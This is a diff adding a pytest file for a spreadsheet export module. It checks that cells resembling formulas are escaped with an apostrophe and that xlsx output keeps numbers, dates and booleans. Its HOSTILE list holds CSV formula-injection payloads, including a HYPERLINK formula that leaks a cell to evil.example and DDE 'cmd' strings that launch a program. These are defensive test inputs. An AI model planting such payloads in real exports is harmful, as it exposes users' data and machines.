@@ -1,0 +1,48 @@
+"""Formula-safe writing: a text a spreadsheet would run as a formula stays text, and what
+.xlsx cannot hold never fails the file. No database needed; the exports that use it are
+tested in tests/dossier/test_exports.py and tests/dossier/test_item_export.py."""
+
+import datetime as dt
+import io
+from decimal import Decimal
+
+import openpyxl
+import pytest
+
+from spreadsheets import writing
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-1+1",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_a_csv_cell_starting_like_a_formula_gets_an_apostrophe(value):
+    assert writing.csv_text(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Acme", "10001", "", "a=b", "'plain"])
+def test_a_csv_cell_that_is_no_formula_stays_as_it_is(value):
+    assert writing.csv_text(value) == value
+
+
+def test_the_streamed_xlsx_keeps_numbers_dates_and_yes_no_as_themselves():
+    stream = io.BytesIO()
+    moment = dt.datetime(2025, 1, 6, 9, 15, 30)
+    writing.stream_xlsx(
+        [
+            ["Text", "Number", "Amount", "Date", "Moment", "Flag", "Empty"],
+            ["a & <b>", 7, Decimal("3150.50"), dt.date(2025, 2, 1), moment, True, None],
+        ],
+        stream,
+        title="CORR",
+    )
+    workbook = openpyxl.load_workbook(io.BytesIO(stream.getvalue()))
+
+    assert workbook.sheetnames == ["CORR"]
+    assert [c.value for c in workbook.active[2]] == ["a & <b>", 7, 3150.5, dt.datetime(2025, 2, 1), moment, True, None]
